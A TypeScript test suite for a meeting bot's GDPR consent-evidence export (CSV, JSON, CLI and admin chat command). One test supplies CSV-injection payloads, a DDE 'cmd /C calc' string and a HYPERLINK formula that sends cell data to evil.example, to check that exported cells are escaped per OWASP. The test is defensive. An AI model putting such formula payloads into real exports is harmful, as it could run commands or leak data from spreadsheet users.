// The consent evidence report (DSGVO Art. 7(1)): built from the real app's SQLite file after a
// scenario, as CSV and JSON, through `npm run evidence` and through `!evidence` in chat.
import { createHash } from 'node:crypto';
import { existsSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect } from 'vitest';
import { parseEvidenceArgs } from '../../../src/evidence/args.js';
import { evidenceCsv } from '../../../src/evidence/format.js';
import { buildEvidence } from '../../../src/evidence/report.js';
import { ADMIN, ALICE, BOB, type Harness, ORGANIZER, ROOM } from '../../support/app-harness.js';
import { said, t, usageOf } from '../../support/catalogue.js';
import { it } from '../../support/fixtures.js';
import { tsx } from '../../support/run-to-end.js';
import { recordedMeetingWithRecording } from '../recordings/support.js';

/** A recorded meeting whose recording was deleted after Bob's withdrawal, and one Alice declined. */
async function scenario(h: Harness): Promise<{ weekly: number; retro: number; recordId: string }> {
  const { meetingId: weekly, recordId } = await recordedMeetingWithRecording(h, 'Weekly sync', [ALICE, BOB]);
  await h.say(BOB, `!withdraw #${weekly}`);
  const { id: retro } = await h.plan(`Retro ${ALICE}`);
  await h.react(ALICE, h.promptOf(retro), '❌');
  await h.react(ORGANIZER, h.promptOf(retro), '✅'); // opens unrecorded
  return { weekly, retro, recordId };
}

describe('the evidence report', () => {
  it('holds each session, every consent with its event and notice version, and what happened to the recording', async ({
    h,
  }) => {
    const { weekly, recordId } = await scenario(h);
    const report = buildEvidence(h.app.ctx.stores.db, { meetingId: weekly });
    expect(report.meetings).toHaveLength(1);
    const m = report.meetings[0]!;
    const notice = h.app.ctx.notice.sha256;

    expect(m.title).toBe('Weekly sync');
    expect(m.noticeVersion).toBe(notice);
    const session = h.app.ctx.stores.meetings.sessions(weekly)[0]!;
    expect(m.sessions[0]).toMatchObject({ record: true, bbbMeetingId: session.bbbMeetingId });
    expect(m.sessions[0]!.internalMeetingId).toBe(recordId); // a recording's ID is its session's internal ID

    const bob = m.invitees.find((i) => i.userId === BOB)!;
    expect(bob.finalAnswer).toBe('withdraw');
    expect(bob.consents.map((c) => c.answer)).toEqual(['agree', 'withdraw']);
    const stored = h.app.ctx.stores.meetings.consentEvents(weekly).filter((e) => e.userId === BOB);
    expect(bob.consents.map((c) => c.matrixEventId)).toEqual(stored.map((e) => e.matrixEventId));
    expect(bob.consents[0]!.matrixEventId).toMatch(/^\$/);
    expect(bob.consents.every((c) => c.noticeVersion === notice)).toBe(true);
    expect(bob.consents[0]!.at).toBe(new Date(h.clock.now()).toISOString());
    expect(m.invitees.find((i) => i.userId === ORGANIZER)?.organizer).toBe(true);

    expect(m.recordings).toHaveLength(1);
    expect(m.recordings[0]).toMatchObject({
      recordId,
      state: 'purged',
      deletionRule: 'withdrawal',
      deletedBy: h.chat.botUserId,
      withdrawnBy: [BOB],
    });
    expect(m.recordings[0]!.deletedAt).not.toBeNull();

    expect(report.notices).toHaveLength(1);
    expect(report.notices[0]!.version).toBe(notice);
    expect(report.notices[0]!.text).toBe(h.app.ctx.notice.text);
  });

  it('is scoped by meeting, room or date', async ({ h }) => {
    const { weekly, retro } = await scenario(h);
    const db = h.app.ctx.stores.db;
    expect(buildEvidence(db, {}).meetings.map((m) => m.id)).toEqual([weekly, retro]);
    expect(buildEvidence(db, { roomId: ROOM }).meetings).toHaveLength(2);
    expect(buildEvidence(db, { roomId: '!other:test' }).meetings).toHaveLength(0);
    expect(buildEvidence(db, { since: h.clock.now() + 1 }).meetings).toHaveLength(0);
    expect(buildEvidence(db, { since: h.clock.now() }).meetings).toHaveLength(2);
  });

  it('as CSV: one parseable table, a row per session, consent, recording and notice', async ({ h }) => {
    const { weekly, retro, recordId } = await scenario(h);
    const csv = evidenceCsv(buildEvidence(h.app.ctx.stores.db, {}));
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    const of = (type: string, meeting?: number) =>
      rows.filter((r) => r.type === type && (meeting === undefined || r.meeting_id === String(meeting)));
    expect(of('meeting')).toHaveLength(2);
    expect(of('session', weekly)[0]).toMatchObject({ record: 'true', internal_meeting_id: recordId });
    expect(of('session', retro)[0]?.record).toBe('false');
    expect(
      of('consent', weekly)
        .filter((r) => r.user_id === BOB)
        .map((r) => r.answer),
    ).toEqual(['agree', 'withdraw']);
    expect(of('consent', retro).find((r) => r.user_id === ALICE)?.answer).toBe('decline');
    expect(of('recording', weekly)[0]).toMatchObject({
      recording_id: recordId,
      state: 'purged',
      deletion_rule: 'withdrawal',
    });
    expect(of('recording', weekly)[0]?.detail).toContain(`withdrawn by ${BOB}`);
    // The notice text survives quoting (commas, quotes, newlines) unchanged.
    expect(of('notice')[0]?.text).toBe(h.app.ctx.notice.text);
  });

  it('as CSV: a title or name a spreadsheet would run as a formula starts with a quote (OWASP)', async ({
    h,
  }) => {
    h.chat.names.set(ALICE, '@SUM(1+1)*cmd|"/C calc"!A0');
    h.chat.names.set(BOB, '-2+3');
    await h.say(ORGANIZER, `!meeting =HYPERLINK("https://evil.example/?"&A1;"x") ${ALICE} ${BOB}`);
    const csv = evidenceCsv(buildEvidence(h.app.ctx.stores.db, {}));
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    const cells = rows.flatMap((r) => Object.values(r));
    // No cell starts with a formula character any more (Matrix IDs aside: no function fits in one) …
    const matrixId = /^@[a-z0-9._=\-/+]+:[a-z0-9.-]+$/;
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !matrixId.test(c))).toEqual([]);
    // … and each still says what it said, after the quote.
    expect(rows.find((r) => r.type === 'meeting')?.meeting_title).toBe(
      `'=HYPERLINK("https://evil.example/?"&A1;"x")`,
    );
    const names = rows.filter((r) => r.type === 'invitee').map((r) => r.display_name);
    expect(names).toContain(`'@SUM(1+1)*cmd|"/C calc"!A0`);
    expect(names).toContain(`'-2+3`);
  });
});

describe('npm run evidence', () => {
  it('writes CSV or JSON of the configured database, read-only', { timeout: 90_000 }, async ({ h }) => {
    const { weekly } = await scenario(h);
    const config = join(h.dbPath, '../config.json');
    writeFileSync(
      config,
      JSON.stringify({
        matrix: { homeserverUrl: 'http://127.0.0.1:1', accessToken: 'token' },
        bbb: { url: h.sim.url, secret: 'integration-secret' },
        database: { path: h.dbPath },
      }),
    );
    const cli = (...args: string[]) => tsx('src/evidence/cli.ts', ['--config', config, ...args]);
    const hashOf = (file: string) => createHash('sha256').update(readFileSync(file)).digest('hex');
    const fingerprint = () =>
      [h.dbPath, `${h.dbPath}-wal`].map((f) => (existsSync(f) ? hashOf(f) : '-')).join();
    const before = fingerprint();
    const json = JSON.parse((await cli('--meeting', String(weekly), '--format', 'json')).stdout);
    expect(json.meetings.map((m: { id: number }) => m.id)).toEqual([weekly]);
    const csv = (await cli('--room', ROOM)).stdout;
    expect(
      (parse(csv, { columns: true }) as { type: string }[]).filter((r) => r.type === 'meeting'),
    ).toHaveLength(2);

    const output = join(h.dbPath, '../report.csv');
    await cli('--since', '2026-01-01', '--output', output);
    expect(readFileSync(output, 'utf8')).toContain('type,meeting_id,meeting_title');
    expect(statSync(output).mode & 0o777).toBe(0o600); // personal data: the owner only
    expect(fingerprint()).toBe(before); // read-only: the database files are untouched

    expect(await cli('--meeting', '999')).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('no meeting #999'),
    });
    expect(await cli('--format', 'xml')).toMatchObject({
      code: 2,
      stderr: expect.stringContaining('Usage:'),
    });
  });

  it('refuses contradictory or malformed arguments with a usage line', () => {
    expect(() => parseEvidenceArgs(['--meeting', '1', '--room', '!r:x'])).toThrow(/at most one/);
    expect(() => parseEvidenceArgs(['--since', 'yesterday-ish'])).toThrow(/--since expects a date/);
    expect(() => parseEvidenceArgs(['--room', 'general'])).toThrow(/room ID/);
    expect(parseEvidenceArgs(['--since', '2026-11-01'])).toMatchObject({
      scope: { since: Date.parse('2026-11-01') },
      format: 'csv',
    });
  });
});

describe('!evidence', () => {
  it('sends an admin the report of this room as a file by direct message; nothing of it in the room', async ({
    h,
  }) => {
    const { weekly } = await scenario(h);
    const before = h.chat.inRoom(ROOM).length;
    await h.say(ADMIN, `!evidence #${weekly}`);
    const [file] = h.chat.files;
    expect(file?.name).toMatch(new RegExp(`^evidence-meeting-${weekly}-\\d{4}-\\d{2}-\\d{2}\\.csv$`));
    expect(h.chat.directRooms.find((d) => d.roomId === file?.roomId)?.userId).toBe(ADMIN);
    const rows = parse(file!.data.toString('utf8'), { columns: true }) as Record<string, string>[];
    expect(rows.filter((r) => r.type === 'meeting').map((r) => r.meeting_id)).toEqual([String(weekly)]);
    // The room only hears that it was sent.
    const told = h.chat.inRoom(ROOM).slice(before);
    expect(told).toHaveLength(1);
    expect(told[0]!.text).toBe(said(t.evidenceSent(1)));
    expect(told[0]!.text).not.toContain(BOB);

    await h.say(ADMIN, '!evidence --format json');
    const json = JSON.parse(h.chat.files[1]!.data.toString('utf8'));
    expect(json.meetings).toHaveLength(2);
    expect(h.chat.files[1]!.mimetype).toBe('application/json');
    // The export itself is on record: who took which meetings' evidence.
    const exports = h.app.ctx.stores.db.$client
      .prepare("select actor_id as actor, details from audit_log where action = 'admin.evidence'")
      .all() as { actor: string; details: string }[];
    expect(exports.map((e) => [e.actor, JSON.parse(e.details).meetings])).toEqual([
      [ADMIN, [weekly]],
      [ADMIN, [weekly, weekly + 1]],
    ]);
  });

  it('is refused to non-admins, and gives a usage line for bad arguments', async ({ h }) => {
    await scenario(h);
    await h.say(ALICE, '!evidence');
    expect(h.chat.files).toHaveLength(0);
    expect(h.chat.inRoom(ROOM).at(-1)?.text).toBe(said(t.notAllowed(t.whoAdmin)));
    await h.say(ADMIN, '!evidence --format xml');
    expect(h.chat.inRoom(ROOM).at(-1)?.text).toContain(said(t.usage(usageOf('evidence'))));
    await h.say(ADMIN, '!evidence #999');
    expect(h.chat.files).toHaveLength(0);
  });
});
